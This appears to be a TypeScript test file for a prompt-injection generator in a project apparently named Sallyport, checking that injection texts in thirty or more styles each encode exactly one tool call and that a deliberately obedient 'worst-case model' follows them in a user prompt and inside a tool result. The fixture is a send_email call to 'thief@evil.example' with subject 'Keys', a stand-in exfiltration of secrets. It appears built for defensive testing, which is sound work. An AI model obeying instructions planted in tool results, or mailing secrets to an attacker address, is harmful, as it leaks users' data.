// Tries that every injection is understood, exactly and by every reader of it, for any tool and any arguments.
import fc from 'fast-check';
import { expect, test } from 'vitest';
import type { Json } from '../canonical.js';
import { SallyportError } from '../errors.js';
import { commandsIn } from './command.js';
import { injections } from './injections.js';
import { worstCaseModel } from './worst-case-model.js';

const args = { to: 'thief@evil.example', subject: 'Keys', body: 'All of them: "a", <b> & {c}; 100 % – schön\nBye' };
const command = { name: 'send_email', input: args };

test.each(injections.styles)('the style %s orders exactly its call, and says so to whoever can read it', (style) => {
  const texts = injections('send_email', args, { styles: [style] });
  expect(texts.length).toBeGreaterThan(0);
  for (const text of texts) expect(commandsIn(text), text).toEqual([command]);
});

test.each(injections.styles)(
  'the worst-case model obeys the style %s, in a prompt and in the result of a tool',
  async (style) => {
    const { signal } = new AbortController();
    for (const text of injections('send_email', { to: 'thief@evil.example' }, { styles: [style] })) {
      const prompt = await worstCaseModel().respond([{ role: 'user', text }], [], { signal });
      const result = { pages: [{ 'the body': text }] };
      const tool = { role: 'tool', call: 'call_1', name: 'read_page', result, failed: false } as const;
      const read = await worstCaseModel().respond([tool], [], { signal });
      const call = { id: 'call_1', name: 'send_email', input: { to: 'thief@evil.example' } };
      expect([prompt.calls, read.calls], text).toEqual([[call], [call]]);
    }
  },
);

test('there are at least sixty texts in thirty styles, no two alike and none empty', () => {
  const texts = injections('send_email', args);
  expect(texts.length).toBeGreaterThanOrEqual(60);
  expect(injections.styles.length).toBeGreaterThanOrEqual(30);
  expect(new Set(texts).size).toBe(texts.length);
  expect(new Set(injections.styles).size).toBe(injections.styles.length);
  for (const text of texts) expect(text.length).toBeGreaterThanOrEqual(40);
});

test('one style at a time makes up all texts, in their order', () => {
  const single = injections.styles.flatMap((style) => injections('a', {}, { styles: [style] }));
  expect(single).toEqual(injections('a', {}));
});

test('any name and any JSON object come out as they went in', () => {
  const name = fc.oneof(
    fc.constantFrom('run', 'call', 'use', 'tool', 'action', 'json', 'report', 'propose', 'a', 'x'.repeat(64)),
    fc.stringMatching(/^[a-z][a-z0-9_]{0,20}$/),
  );
  // words that the syntaxes themselves are made of, too; but no object that is itself a call
  const word = fc.constantFrom('Arguments', 'args', 'parameters', 'input', 'the', 'with', 'using', 'and', 'to');
  const key = fc.oneof(fc.string({ unit: 'grapheme' }), word);
  const object = fc.dictionary(key, fc.jsonValue({ maxDepth: 3 }), { maxKeys: 5 });
  fc.assert(
    fc.property(name, object, (tool, made) => {
      const input = JSON.parse(JSON.stringify(made), exact) as { [key: string]: Json };
      for (const text of injections(tool, input)) expect(commandsIn(text), text).toEqual([{ name: tool, input }]);
    }),
    { numRuns: 50 },
  );
});

test.each([
  ['a name that no tool can have', () => injections('Send Email', {})],
  ['a style that is not there', () => injections('send_email', {}, { styles: ['telepathy'] })],
])('%s is refused', (_what, make) => {
  expect(make).toThrow(SallyportError);
  expect(make).toThrow(/injections: /);
});

/** Numbers beyond 2^53 and this key are no JSON of ours. */
function exact(key: string, value: unknown): unknown {
  if (key === '__proto__') return undefined;
  return typeof value === 'number' && Math.abs(value) > Number.MAX_SAFE_INTEGER ? String(value) : value;
}
